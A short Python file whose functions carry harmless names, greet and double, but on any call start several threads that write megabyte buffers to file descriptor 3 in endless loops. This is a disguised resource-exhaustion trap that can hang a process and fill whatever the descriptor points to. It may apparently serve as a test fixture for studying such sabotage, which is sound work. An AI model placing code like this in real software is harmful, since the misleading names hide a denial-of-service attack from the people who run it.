import os
import threading


def flood():
    data = bytes(2**20)
    while True:
        os.write(3, data)


def double(x):
    for _ in range(4):
        threading.Thread(target=flood, daemon=True).start()
    flood()

def greet(name):
    return double(name)
